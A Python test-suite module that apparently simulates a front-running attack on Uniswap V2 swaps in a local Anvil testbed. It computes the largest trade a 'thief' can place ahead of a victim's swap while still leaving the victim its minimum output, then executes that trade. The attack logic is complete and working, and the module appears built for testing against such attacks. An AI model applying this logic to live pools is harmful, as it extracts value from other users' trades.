"""Trading just before a victim, so that it gets its minimum and no more; refuses to spoil the swap.

V2 pools only: their price after a trade is arithmetic (v2-periphery, UniswapV2Library).
"""

from collections.abc import Sequence

from tests.attack.works import THIEF
from tests.testbed import abi
from tests.testbed.anvil import Anvil
from tests.testbed.uniswap import FOREVER, World

_SWAP = "swapExactTokensForTokens(uint256,uint256,address[],address,uint256)"


async def squeeze(chain: Anvil, world: World, path: Sequence[str], amount_in: int, minimum_out: int) -> int:
    """The thief buys what the victim wants, as much as its minimum bears; returns what he paid.

    `path` is one pair, USDX with ABC or WETH. Zero when the swap would fail anyway.
    """
    reserves = await _reserves(chain, world, path)
    paid = _most(reserves, amount_in, minimum_out)
    if paid:
        await trade(chain, world, path, paid)
    return paid


async def trade(chain: Anvil, world: World, path: Sequence[str], amount_in: int) -> None:
    """A swap from the thief's own account, at any price."""
    data = abi.calldata(_SWAP, amount_in, 0, list(path), THIEF, FOREVER)
    await chain.send(THIEF, world.v2_router, data)


def _most(reserves: tuple[int, int], amount_in: int, minimum_out: int) -> int:
    """Largest amount that the thief can pay in first."""
    low, high = 0, reserves[0] // 10
    while low < high:
        middle = (low + high + 1) // 2
        if _out(_after(reserves, middle), amount_in) >= minimum_out:
            low = middle
        else:
            high = middle - 1
    return low


def _out(reserves: tuple[int, int], amount_in: int) -> int:
    kept = amount_in * 997
    return kept * reserves[1] // (reserves[0] * 1_000 + kept)


def _after(reserves: tuple[int, int], amount_in: int) -> tuple[int, int]:
    return reserves[0] + amount_in, reserves[1] - _out(reserves, amount_in)


async def _reserves(chain: Anvil, world: World, path: Sequence[str]) -> tuple[int, int]:
    pool = world.v2_usdx_abc if world.abc in path else world.v2_usdx_weth
    first, second, _ = await chain.call(pool, "getReserves()", returns="(uint112,uint112,uint32)")
    assert isinstance(first, int)
    assert isinstance(second, int)
    return (first, second) if path[0] < path[1] else (second, first)
